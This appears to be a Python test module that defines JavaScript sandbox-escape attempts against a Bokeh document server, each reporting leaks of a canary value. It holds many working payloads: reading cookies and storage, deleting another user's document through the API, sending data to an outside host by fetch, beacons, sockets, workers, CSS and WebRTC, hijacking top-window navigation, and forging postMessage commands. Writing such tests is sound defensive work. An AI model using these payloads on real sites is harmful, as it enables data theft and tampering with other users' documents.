"""What hostile scripts try, as JavaScript: each attack is a list of attempts, each of which fails or leaves a trace.

An attempt that gets something returns it, and it is reported as a leak; what reaches the outside, the shell or another
document is seen there. Every attack says what it tried through a property of its own document, which the server relays:
an attack that did not run proves nothing.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

CANARY = "canary-7f3a91"
"""What the pages of the app hold in every kind of storage; no report may have it."""


@dataclass(frozen=True)
class Place:
    """Where an attack happens: addresses, and another document to go for."""

    app: str
    outside: str
    victim: str


PRELUDE = """
if (globalThis.began) return %(result)s;
globalThis.began = true;
const {name, app, outside, victim} = %(about)s;
const out = `${outside}/${name}`, ws = app.replace("http", "ws"), own = location.pathname.split("/").at(-1);
const tried = [], leaks = [];
const marker = () => Bokeh.documents.at(-1).get_model_by_name("marker");
const report = (done) => { marker().text = JSON.stringify({tried, leaks, done}); };
globalThis.leaked = (what) => leaks.push(what);
const soon = (ms = 350) => new Promise((resolve) => setTimeout(resolve, ms));
const attempt = async (what, act) => {
  tried.push(what);
  report(false);
  try {
    const got = await Promise.race([act(), soon()]);
    if (![undefined, null, false, ""].includes(got)) leaks.push(`${what}: ${String(got).slice(0, 300)}`);
  } catch {}
};
const all = (acts) => Promise.all(Object.entries(acts).map(([what, act]) => attempt(what, act)));
const put = (tag, attributes = {}, parent = document.body) => new Promise((resolve) => {
  const element = document.createElement(tag);
  element.onload = element.onerror = () => resolve();
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  parent.append(element);
});
const markup = async (text) => { document.body.insertAdjacentHTML("beforeend", text); await soon(); };
const press = async (tag, attributes, inside = "") => {
  const element = document.createElement(tag);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  element.innerHTML = inside;
  document.body.append(element);
  (element.querySelector("button") ?? element).click();
  await soon();
};
const opens = (url, protocols) => new Promise((resolve, reject) => {
  const socket = new WebSocket(url, protocols);
  socket.onopen = () => resolve(`${url} opened`);
  socket.onerror = reject;
});
const status = async (method, path, more = {}) => (await fetch(app + path, {method, ...more})).status;
const asks = (text) => new Worker(URL.createObjectURL(new Blob([text], {type: "text/javascript"})));
const port = () => new Promise((resolve) => {
  addEventListener("message", ({data, ports}) => { if (data?.kind === "port") resolve(ports[0]); });
  parent.postMessage({kind: "hello"}, "*");
});
(async () => {
  %(body)s
  report(true);
})();
return %(result)s;
"""


def script(name: str, place: Place, body: str, result: str = "null") -> str:
    """The statements of an attack; ``result`` is what they return to BokehJS at once."""
    about = {"name": name, "app": place.app, "outside": place.outside, "victim": place.victim}
    return PRELUDE % {"about": json.dumps(about), "body": body, "result": result}


READ = """await all({
  cookie: async () => document.cookie,
  "cookie store": async () => (await cookieStore.getAll()).map(({value}) => value).join(),
  "set a cookie": async () => { document.cookie = "evil=1; path=/"; return document.cookie; },
  "parent DOM": async () => parent.document.title,
  "top DOM": async () => top.document.body.innerHTML,
  "frame element": async () => frameElement?.outerHTML,
  "parent storage": async () => parent.localStorage.getItem("canary"),
  "parent fetch": async () => parent.fetch("/api/v1/documents").then((answer) => answer.status),
  "parent location": async () => parent.location.href,
  "local storage": async () => localStorage.getItem("canary") ?? "readable",
  "session storage": async () => sessionStorage.getItem("canary") ?? "readable",
  opener: async () => opener?.document.title,
});"""
API = """await all({
  "delete another document": () => status("DELETE", `/api/v1/documents/${victim}`),
  "delete with credentials": () => status("DELETE", `/api/v1/documents/${victim}`, {credentials: "include"}),
  "rename another document": () => status("PATCH", `/api/v1/documents/${victim}`, {body: '{"title": "stolen"}'}),
  "list documents": () => status("GET", "/api/v1/documents"),
  "make a document": () => status("POST", "/api/v1/documents", {body: '{"title": "made"}', mode: "no-cors"}),
  "read without cors": () => status("GET", `/api/v1/documents/${victim}`, {mode: "no-cors"}),
  "take a ticket": () => status("POST", `/bokeh/doc/${victim}/ticket`, {mode: "no-cors"}),
  beacon: async () => { navigator.sendBeacon(`${app}/api/v1/documents`, '{"title": "made"}'); },
  "own frame": () => status("GET", `/bokeh/frame/${victim}`),
  xhr: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("DELETE", `${app}/api/v1/documents/${victim}`);
    request.onload = () => resolve(request.status);
    request.onerror = reject;
    request.send();
  }),
  "as a script": () => put("script", {src: `${app}/api/v1/documents`}),
  "as a picture": () => put("img", {src: `${app}/bokeh/doc/${victim}`}),
});"""
OUT = """await all({
  fetch: () => fetch(`${out}/fetch`).then(() => "fetched"),
  "fetch without cors": () => fetch(`${out}/no-cors`, {mode: "no-cors"}).then(() => "fetched"),
  "fetch that lives on": () => fetch(`${out}/keepalive`, {keepalive: true, method: "POST"}).then(() => "fetched"),
  "fetch later": async () => { fetchLater(`${out}/later`, {activateAfter: 0}); },
  picture: () => put("img", {src: `${out}/img.svg`}),
  beacon: async () => { navigator.sendBeacon(`${out}/beacon`, "data"); },
  websocket: () => opens(`${out.replace("http", "ws")}/ws`),
  "event source": async () => { new EventSource(`${out}/events`); },
  "web transport": () => new WebTransport(`${out.replace("http:", "https:")}/transport`).ready,
  script: () => put("script", {src: `${out}/script.js`}),
  style: () => put("link", {rel: "stylesheet", href: `${out}/style.css`}),
  "module": () => import(`${out}/module.js`).then(() => "imported"),
  xhr: async () => {
    const request = new XMLHttpRequest();
    request.open("POST", `${out}/xhr`);
    request.send("data");
  },
});"""
SELF = """await attempt("location", async () => { location.href = `${out}/self.html?` + Bokeh.documents.length; });
await soon();"""
TOP = """await all({
  "top location": async () => { top.location.href = `${out}/top.html`; },
  "parent replace": async () => { parent.location.replace(`${out}/replace.html`); },
  "top link": () => press("a", {href: `${out}/link.html`, target: "_top"}),
  "top form": () => press("form", {action: `${out}/form.html`, target: "_top"}, "<button>"),
  "top script": async () => { top.location.href = "javascript:alert(1)"; },
  "top hash": async () => { parent.location.hash = "stolen"; },
  "opened over the top": async () => { open(`${out}/open.html`, "_top"); },
});"""
POPUP = """await all({
  "window.open": async () => open(`${out}/open.html`),
  "named window": async () => open(`${out}/named.html`, "name", "popup"),
  "new tab": () => press("a", {href: `${out}/blank.html`, target: "_blank"}),
  "new tab by form": () => press("form", {action: `${out}/form.html`, target: "_blank"}, "<button>"),
  "shell's question": async () => (await port()).postMessage({kind: "open-link", url: `${out}/asked.html`}),
});
await attempt("control click", () => {
  const link = Object.assign(document.createElement("a"), {href: `${out}/ctrl.html`});
  document.body.append(link);
  link.dispatchEvent(new MouseEvent("click", {ctrlKey: true, bubbles: true}));  // where no tab opens, the frame leaves
  return soon();
});"""
CORE = {"read": READ, "api": API, "out": OUT, "self": SELF, "top": TOP, "popup": POPUP}
"""What is tried from each kind of model that carries code."""

MORE = {
    "storage": """await all({
  "indexed db": () => new Promise((resolve, reject) => {
    const request = indexedDB.open("canary");
    request.onsuccess = () => resolve("opened");
    request.onerror = reject;
  }),
  "indexed db names": async () => (await indexedDB.databases()).map(({name}) => name).join() || "listed",
  caches: async () => (await caches.keys()).join() || "listed",
  "cached answer": async () => (await (await caches.match("/canary")).text()),
  "private files": async () => (await navigator.storage.getDirectory()).name ?? "got",
  "storage access": async () => { await document.requestStorageAccess(); return document.cookie; },
  "shared worker": async () => new SharedWorker(URL.createObjectURL(new Blob([""]))),
  locks: async () => (await navigator.locks.query()).held.map(({name}) => name).join(),
  "broadcast": () => new Promise((resolve) => {
    const channel = new BroadcastChannel("canary");
    channel.onmessage = ({data}) => resolve(data);
    channel.postMessage("hello");
  }),
});""",
    "other-sockets": """const {port: mine} = {port: await port()};
const ticket = () => new Promise((resolve) => {
  mine.onmessage = ({data}) => resolve(data.ticket);
  mine.postMessage({kind: "ticket"});
});
const word = (id, key) => btoa(JSON.stringify({session_id: id, ticket: key})).replaceAll("=", "");
const key = await Promise.race([ticket(), soon(3000)]);
tried.push(`ticket ${key}`);
await all({
  "another document": () => opens(`${ws}/bokeh/ws/${victim}`, ["bokeh", word(victim, key)]),
  "another by dots": () => opens(`${ws}/bokeh/ws/${own}/../${victim}`, ["bokeh", word(victim, key)]),
  "another by escaped dots": () => opens(`${ws}/bokeh/ws/${own}/%2e%2e/${victim}`, ["bokeh", word(victim, key)]),
  "below one's own": () => opens(`${ws}/bokeh/ws/${own}/x`, ["bokeh", word(own, key)]),
  "the board": () => opens(`${ws}/bokeh/board`),
  "the socket of programs": () => opens(`${ws}/bokeh/doc/${victim}/ws`, ["bokeh", word(victim, key)]),
  "one's own of programs": () => opens(`${ws}/bokeh/doc/${own}/ws`, ["bokeh", word(own, key)]),
});""",
    "self-link": """await attempt("link", () => press("a", {href: `${out}/link.html`}));
await attempt("svg link", () => markup(`<svg><a href="${out}/svg.html"><text>x</text></a></svg>`));
document.querySelector("svg a").dispatchEvent(new MouseEvent("click", {bubbles: true}));""",
    "self-download": 'await attempt("download", () => press("a", {href: `${out}/file.html`, download: "x"}));',
    "self-meta": """await attempt("refresh", () => put("meta", {"http-equiv": "refresh", content: `0;url=${out}/m`},
  document.head)); await soon();""",
    "self-form": 'await attempt("form", () => press("form", {action: `${out}/f.html`, method: "post"}, "<button>"));',
    "self-navigation-api": 'await attempt("navigate", async () => { navigation.navigate(`${out}/n.html`); }); '
    "await soon();",
    "self-data": 'await attempt("data", async () => { location = `data:text/html,<img src="${out}/data.svg">`; }); '
    "await soon();",
    "self-blob": """await attempt("blob", async () => {
  const page = `<img src="${out}/i.svg"><script>location = "${out}/b.html"</` + "script>";
  location = URL.createObjectURL(new Blob([page], {type: "text/html"}));
}); await soon();""",
    "self-script": 'await attempt("javascript:", async () => { location = `javascript:fetch("${out}/js")`; }); '
    "await soon();",
    "self-to-another": 'await attempt("frame", async () => { location = `${app}/bokeh/frame/${victim}`; });'
    "await soon();",
    "self-to-shell": 'await attempt("shell", async () => { location = `${app}/bokeh/doc/${victim}`; }); await soon();',
    "history": """await all({
  back: async () => { history.back(); },
  "further back": async () => { history.go(-2); },
  "parent back": async () => { parent.history.back(); },
  "push state": async () => { history.pushState({}, "", `${out}/state`); },
}); await soon();""",
    "forgery": """const mine = await port();
await attempt("messages", async () => {
  for (const target of [parent, top]) {
    target.postMessage({kind: "delete"}, "*");
    target.postMessage({kind: "rename", title: "stolen"}, "*");
    target.postMessage("hello", "*");
  }
  for (const message of [
    {kind: "rename", title: "stolen"}, {kind: "delete"}, {kind: "toast", level: "info", text: "<b id=stolen>x</b>"},
    {kind: "toast", level: {toString: () => "x"}, text: "x"}, {kind: "resize", height: "1px; position: fixed"},
    {kind: "resize", height: 1e308}, {kind: "status", state: "deleted", retry: 0, pending: 0},
    {kind: "content", is: "deleted"}, {kind: "constructor"}, {kind: "__proto__"}, {kind: ["ticket"]},
    {kind: "open-link", url: "javascript:alert(document.domain)"}, {kind: "open-link", url: `${out}/open.html`},
    {kind: "inert", scripts: "<b>"}, {__proto__: {kind: "delete"}},
  ]) mine.postMessage(message);
}); await soon();""",
    "forgery-by-prototype": """await attempt("prototypes", async () => {
  Object.prototype.kind = "delete";
  Array.prototype.includes = () => true;
  MessagePort.prototype.postMessage = new Proxy(MessagePort.prototype.postMessage, {
    apply: (call, to, [message]) => Reflect.apply(call, to, [{...message, title: "stolen", kind: "rename"}]),
  });
  (await port()).postMessage({kind: "status"});
  delete Object.prototype.kind;
}); await soon();""",
    "imports": """const blob = (text) => URL.createObjectURL(new Blob([text], {type: "text/javascript"}));
await all({
  "a module": () => import(`${out}/a.js`).then(() => "imported"),
  "a module in a blob": () => import(blob(`import "${out}/b.js"; export default 1`)).then(() => "imported"),
  "later in a blob": () => import(blob(`export default import("${out}/c.js")`)).then((m) => m.default),
  "as json": () => import(`${app}/api/v1/documents`, {with: {type: "json"}}).then(() => "imported"),
  "as style": () => import(`${out}/d.css`, {with: {type: "css"}}).then(() => "imported"),
  "a data module": () => import(`data:text/javascript,import "${out}/e.js"`).then(() => "imported"),
  "an import map": () => markup(`<script type="importmap">{"imports": {"x": "${out}/f.js"}}<` + "/script>"),
  "by eval": () => eval(`import("${out}/g.js")`).then(() => "imported"),
  "by Function": () => new Function(`return import("${out}/h.js")`)().then(() => "imported"),
  "by setTimeout": async () => { setTimeout(`import("${out}/i.js")`, 0); },
});""",
    "workers": """const says = (worker) => new Promise((resolve) => { worker.onmessage = ({data}) => resolve(data); });
await all({
  "from outside": async () => says(new Worker(`${out}/worker.js`)),
  "a module from outside": async () => says(new Worker(`${out}/module.js`, {type: "module"})),
  "that fetches": async () => says(asks(`fetch("${out}/fetch").then(() => postMessage("fetched"))`)),
  "that imports": async () => says(asks(`importScripts("${out}/imported.js"); postMessage("imported")`)),
  "that opens a socket": async () => says(asks(`new WebSocket("${out.replace("http", "ws")}/ws").onopen =
    () => postMessage("opened")`)),
  "that asks the api": async () => says(asks(`fetch("${app}/api/v1/documents/${victim}", {method: "DELETE"}).then(
    ({status}) => postMessage(status))`)),
  "in a worker": async () => says(asks(`new Worker(URL.createObjectURL(new Blob(['fetch("${out}/nested")'])))`)),
  "of data": async () => says(new Worker(`data:text/javascript,fetch("${out}/data")`)),
  "shared": async () => { new SharedWorker(`${out}/shared.js`); },
  "audio worklet": () => new AudioContext().audioWorklet.addModule(`${out}/audio.js`),
  "service worker": () => navigator.serviceWorker.register(`${app}/static/x.js`).then(() => "registered"),
  "service worker from outside": () => navigator.serviceWorker.register(`${out}/sw.js`).then(() => "registered"),
  "service workers there": async () => (await navigator.serviceWorker.getRegistrations()).length || "listed",
});""",
    "frames": """await all({
  "from outside": () => put("iframe", {src: `${out}/frame.html`}),
  "source text": () => put("iframe", {srcdoc: `<img src="${out}/srcdoc.svg"><link rel=preload as=image
    href="${out}/pre.svg"><meta http-equiv=refresh content="0;url=${out}/refresh.html">`}),
  "another realm": async () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow.fetch(`${out}/realm`).then(() => "fetched");
  },
  "blob": () => put("iframe", {src: URL.createObjectURL(new Blob([`<img src="${out}/blob.svg">`]))}),
  "data": () => put("iframe", {src: `data:text/html,<img src="${out}/data.svg"><script>location="${out}/l"</script>`}),
  "the shell": () => put("iframe", {src: `${app}/bokeh/doc/${victim}`}),
  "another frame": () => put("iframe", {src: `${app}/bokeh/frame/${victim}`}),
  "fenced": () => put("fencedframe", {src: `${out}/fenced.html`}),
  "without its policy": () => put("iframe", {src: `${out}/csp.html`, csp: "default-src *", allow: "*"}),
});""",
    "links": """await all(Object.fromEntries([
  ["prefetch"], ["preload", {as: "image"}], ["preload", {as: "script"}], ["preload", {as: "fetch"}],
  ["preload", {as: "font", crossorigin: ""}], ["preload", {as: "style"}], ["modulepreload"], ["icon"], ["manifest"],
  ["preconnect"], ["dns-prefetch"], ["prerender"], ["alternate stylesheet"],
  ["compression-dictionary"], ["next"], ["pingback"], ["search"],
].map(([rel, more], i) => [`${rel} ${more?.as ?? ""}`, () => put("link", {rel, href: `${out}/link${i}.css`, ...more},
  document.head)])));""",
    "speculation": """await attempt("rules", async () => {
  const rules = Object.assign(document.createElement("script"), {type: "speculationrules"});
  rules.textContent = JSON.stringify({
    prefetch: [{source: "list", urls: [`${out}/prefetch.html`], eagerness: "immediate"}],
    prerender: [{source: "list", urls: [`${out}/prerender.html`], eagerness: "immediate"}],
  });
  document.head.append(rules);
  await soon(600);
});""",
    "styles": """const style = (text) => markup(`<style>${text}</style><p class=styled>x</p><p class=styled2>y</p>`);
await all({
  url: () => style(`.styled { background: url(${out}/url.svg) }`),
  import: () => style(`@import url(${out}/import.css);`),
  font: () => style(`@font-face { font-family: f; src: url(${out}/font.woff2) } .styled { font-family: f }`),
  "font face": () => new FontFace("g", `url(${out}/face.woff2)`).load(),
  cursor: () => style(`.styled { cursor: url(${out}/cursor.svg), auto; list-style: url(${out}/list.svg) inside }`),
  "image set": () => style(`.styled2 { background: image-set("${out}/set.svg" 1x); mask: url(${out}/mask.svg) }`),
  content: () => style(`.styled::after { content: url(${out}/content.svg); filter: url(${out}/filter.svg#a) }`),
  attribute: () => markup(`<p style="background: url(${out}/attribute.svg)">z</p>`),
  shape: () => style(`.styled2 { float: left; shape-outside: url(${out}/shape.svg); border-image: url(${out}/b.svg) }`),
  constructed: async () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url(${out}/constructed.svg) }`);
    document.adoptedStyleSheets.push(sheet);
  },
  "secrets by selectors": () => style(`#parameters[type^=a] { display: block; background: url(${out}/secret-a.svg) }`),
});""",
    "media": """await all({
  video: () => put("video", {src: `${out}/video.mp4`, preload: "auto", poster: `${out}/poster.svg`}),
  audio: () => put("audio", {src: `${out}/audio.mp3`, preload: "auto"}),
  track: () => markup(`<video><track default src="${out}/track.vtt"><source src="${out}/source.mp4"></video>`),
  object: () => put("object", {data: `${out}/object.html`}),
  embed: () => put("embed", {src: `${out}/embed.svg`}),
  "svg image": () => markup(`<svg><image href="${out}/image.svg"/><use href="${out}/use.svg#a"/></svg>`),
  "svg filter": () => markup(`<svg><filter id=x><feImage href="${out}/fe.svg"/></filter><rect width=9 height=9
    filter="url(#x)"/></svg>`),
  "svg script": () => markup(`<svg><script href="${out}/svg.js"/></svg>`),
  picture: () => markup(`<picture><source srcset="${out}/srcset.svg"><img></picture>`),
  input: () => put("input", {type: "image", src: `${out}/input.svg`}),
  "new picture": async () => { new Image().src = `${out}/new.svg`; },
  canvas: async () => {
    const picture = await createImageBitmap(await (await fetch(`${out}/bitmap.svg`)).blob());
    return picture.width;
  },
});""",
    "pings": """await all({
  ping: () => press("a", {href: "#x", ping: `${out}/ping`}),
  attribution: () => put("img", {src: "data:,", attributionsrc: `${out}/attribution`}),
  "policy report": () => put("meta", {"http-equiv": "Content-Security-Policy", content:
    `img-src 'none'; report-uri ${out}/report`}, document.head),
  "looser policy": () => put("meta", {"http-equiv": "Content-Security-Policy", content: "default-src *"}),
  "after it": () => put("img", {src: `${out}/after.svg`}),
});""",
    "base": """await attempt("base", async () => {
  await put("base", {href: `${out}/`}, document.head);
  await put("script", {src: "relative.js"});
  await put("img", {src: "relative.svg"});
});""",
    "dialogs": """await all({
  alert: async () => { alert("x"); }, confirm: async () => confirm("x"), prompt: async () => prompt("x"),
  print: async () => { print(); },
  location: () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("located"))),
  clipboard: () => navigator.clipboard.readText(), credentials: () => navigator.credentials.get({password: true}),
  camera: () => navigator.mediaDevices.getUserMedia({video: true}),
  notification: async () => (await Notification.requestPermission()) === "granted",
  payment: async () => new PaymentRequest([{supportedMethods: "basic-card"}], {total: {}}).show(),
  protocol: async () => { navigator.registerProtocolHandler("web+x", `${app}/%s`); return "registered"; },
  "whole screen": async () => { await document.body.requestFullscreen(); return "taken"; },
  "mouse": async () => { await document.body.requestPointerLock(); return "taken"; },
  domain: async () => { document.domain = "localhost"; return parent.document.title; },
});""",
    "webrtc": """const Peer = globalThis.pristine; // as it was before the frame's own script
await all({
  "still there": async () => typeof RTCPeerConnection !== "undefined" && "RTCPeerConnection",
  "by its old name": async () => typeof webkitRTCPeerConnection !== "undefined" && "webkitRTCPeerConnection",
});
await attempt("stun", async () => {
  const peer = new Peer({iceServers: [{urls: `stun:127.0.0.1:${new URL(out).port}`}]});
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await soon();
}); await soon();""",
    "webrtc-elsewhere": """const code = `const peer = new RTCPeerConnection({iceServers: [{urls:
  "stun:127.0.0.1:${new URL(out).port}"}]}); peer.createDataChannel("x"); peer.createOffer().then((o) =>
  peer.setLocalDescription(o));`;
const url = URL.createObjectURL(new Blob([code], {type: "text/javascript"}));
await all({
  "another realm": async () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    new frame.contentWindow.RTCPeerConnection();
    return "made";
  },
  "source text": () => put("iframe", {srcdoc: `<script src="${url}"></script>`}),
  "source text and module": () => put("iframe", {srcdoc: `<script type=module src="${url}"></script>`}),
  worker: async () => { asks(code); },
});
await soon(600);""",
}
"""What is tried once, each from one of the models that carry code."""
